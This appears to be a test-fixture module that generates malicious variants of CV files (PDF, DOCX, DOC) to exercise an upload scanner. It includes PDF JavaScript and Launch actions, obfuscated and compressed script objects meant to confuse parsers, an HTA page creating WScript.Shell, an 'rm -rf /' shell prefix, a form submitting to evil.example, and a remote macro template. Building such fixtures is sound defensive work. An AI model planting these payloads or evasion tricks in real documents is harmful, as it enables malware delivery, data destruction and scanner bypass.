import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import JSZip from 'jszip';
import { withUpdate } from './pdf-parts.mjs';

const script = '<</S/JavaScript/JS(app.alert(1))>>';
const page = '<hta:application><script>new ActiveXObject("WScript.Shell")</script>';

function compressed(objects, { count = 1, first = 5 } = {}) {
  const data = deflateSync(objects).toString('latin1');
  return `<</Type/ObjStm/N ${count}/First ${first}/Filter/FlateDecode/Length ${data.length}>>\nstream\n${data}\nendstream`;
}

/** Objects that run something, some of them hidden where one reader sees a string and another an object. */
const objects = {
  'a script': script,
  'a script in other letters': script.replace('JavaS', '#4aava#53'),
  'a name of its own': '/JavaScript',
  'a program to start': '<</S/Launch/F(calc.exe)>>',
  'a form that sends': '<</S/SubmitForm/F(https://evil.example/)>>',
  'a compressed script': compressed(`1 0  ${script}`),
  'a compressed script that begins in a string': compressed(`1 1  (${script})`),
  'a compressed script beyond its head': compressed(`1 0 2 5 (${script})`, { count: 2, first: 4 }),
  'an object in a string': `(8 0 obj ${script} endobj)`,
  'an object that ends a string': `<</A(8 0 obj % )/S/JavaScript/JS(x) \n)>>`,
  'a string in a comment': `<< % (\n/S/JavaScript/JS(x) % )\n>>`,
  'a string in digits': '<</A<41(>/S/JavaScript/JS<41>/B(x)>>',
  'an object after a stream within': '<</A<<>>stream\n/S/JavaScript/JS(x)>>',
  'an object in a list that another bracket ends': '[<</K[>> >>stream\n ]/S/JavaScript/JS(x)>>]',
  'an object in a stream': `<</Length 60>>\nstream\n8 0 obj ${script} endobj\nendstream`,
};

/** Makes hostile CVs of a CV that a program made. */
async function* fromPdf(pdf, folder) {
  for (const [what, object] of Object.entries(objects)) yield [what, withUpdate(pdf, object)];
  yield ['a page for Windows in front', Buffer.concat([Buffer.from(page), pdf])];
  yield ['a program in front', Buffer.concat([Buffer.from('MZ\x90\0'), pdf])];
  yield ['a shell’s script in front', Buffer.concat([Buffer.from('#!/bin/sh\nrm -rf /\n'), pdf])];
  yield ['a page at its end', Buffer.concat([pdf, Buffer.from(page)])];
  yield [
    'an archive at its end',
    Buffer.concat([pdf, await new JSZip().file('a.hta', page).generateAsync({ type: 'nodebuffer' })]),
  ];
  yield ['half of it', pdf.subarray(0, pdf.length / 2)];
  for (const [what, words] of [
    ['a password', ['--encrypt', 'theirs', 'ours', '256', '--']],
    ['a file within', ['--object-streams=generate', '--add-attachment', 'page.jpg', '--']],
  ]) {
    execFileSync('qpdf', ['pdf-lib-plain.pdf', ...words, 'changed.pdf'], { cwd: folder });
    yield [what, readFileSync(join(folder, 'changed.pdf'))];
  }
}

const relation = (kind, target) =>
  `<Relationship Id="evil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

async function* fromDocx(docx) {
  const changed = async (change) => {
    const archive = await JSZip.loadAsync(docx);
    await change(archive, async (name, edit) => archive.file(name, edit(await archive.file(name).async('string'))));
    return archive.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
  };
  const related = (kind, target) =>
    changed((_, edit) =>
      edit('word/_rels/document.xml.rels', (xml) => xml.replace('</Relationships>', relation(kind, target))),
    );
  yield ['macros', await changed((archive) => archive.file('word/vbaProject.bin', 'x'))];
  yield ['a program within', await changed((archive) => archive.file('word/embeddings/oleObject1.bin', 'x'))];
  yield [
    'a type with macros',
    await changed((_, edit) =>
      edit('[Content_Types].xml', (xml) =>
        xml.replace(
          'openxmlformats-officedocument.wordprocessingml.document.main',
          'ms-word.document.macroEnabled.main',
        ),
      ),
    ),
  ];
  yield ['a template from elsewhere', await related('attachedTemplate', 'https://evil.example/a.dotm')];
  yield ['a picture from a neighbour', await related('image', '\\\\evil\\a.png')];
  yield ['far too much', await changed((archive) => archive.file('word/_rels/bomb.xml.rels', '<'.repeat(6_000_000)))];
  yield ['half of it', docx.subarray(0, docx.length / 2)];
  yield ['a page at its end', Buffer.concat([docx, Buffer.from(page)])];
}

async function* fromDoc(doc) {
  const renamed = Buffer.from(doc);
  const name = Buffer.from('\u0001CompObj', 'utf16le');
  renamed.fill(0, renamed.lastIndexOf(name), renamed.lastIndexOf(name) + name.length);
  renamed.write('Macros', renamed.lastIndexOf(Buffer.from('1Table', 'utf16le')), 'utf16le');
  yield ['macros', renamed];
  yield ['a page for Windows at its end', Buffer.concat([doc, Buffer.from(page)])];
  const locked = Buffer.from(doc);
  const word = locked.indexOf(Buffer.from('eca5', 'hex'));
  locked.writeUInt16LE(locked.readUInt16LE(word + 10) | 0x0100, word + 10);
  yield ['a password', locked];
  yield ['its beginning', doc.subarray(0, 1_500)];
}

/** Makes hostile CVs from the given ones. */
export async function* hostileCvs(folder, names) {
  for (const name of names) {
    const bytes = readFileSync(join(folder, name));
    const make = { pdf: fromPdf, docx: fromDocx, doc: fromDoc }[name.split('.')[1]];
    for await (const [what, changed] of make(bytes, folder)) yield { what: `${name} with ${what}`, bytes: changed };
  }
}
